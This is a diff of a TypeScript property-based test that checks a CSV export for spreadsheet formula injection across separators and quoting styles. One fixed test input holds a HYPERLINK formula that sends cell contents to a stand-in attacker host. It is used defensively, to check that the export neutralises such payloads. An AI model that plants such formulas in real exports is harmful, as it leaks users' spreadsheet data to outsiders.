@@ -24,19 +24,18 @@ const piece = fc.constantFrom(
 const nasty = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(''))
 
 test('holds no formula, whichever separator a spreadsheet takes and however it reads quotes', async () => {
-  const holdsNone = async (name: string, message: string, reason: string) => {
-    await using inbox = await makeInbox()
+  await using inbox = await makeInbox()
+  const known = ['x;=1+2;', 'Hola\n=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");\nadios', '550 no'] as const
+  for (const [name, message, reason] of [known, ...fc.sample(fc.tuple(nasty, nasty, nasty), 50)]) {
     await inbox.keep({ name, email: `${name}@example.org`, message })
     await inbox.settle({ kind: 'refused', reason })
-    for (const chosen of ['comma', 'semicolon']) {
-      const csv = await inbox.ask('export', '--separator', chosen)
-      for (const separator of [',', ';', '\t', /[,;\t]/])
-        for (const cell of csv.split(/\r?\n/).flatMap((line) => line.split(separator)))
-          expect(cell).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/)
-    }
   }
-  await holdsNone('x;=1+2;', 'Hola\n=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");\nadios', '550 no')
-  await fc.assert(fc.asyncProperty(nasty, nasty, nasty, holdsNone), { numRuns: 50 })
+  for (const chosen of ['comma', 'semicolon']) {
+    const csv = await inbox.ask('export', '--separator', chosen)
+    for (const separator of [',', ';', '\t', /[,;\t]/])
+      for (const cell of csv.split(/\r?\n/).flatMap((line) => line.split(separator)))
+        expect(cell).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/)
+  }
 })
 
 test('writes JSON to the letter', async () => {
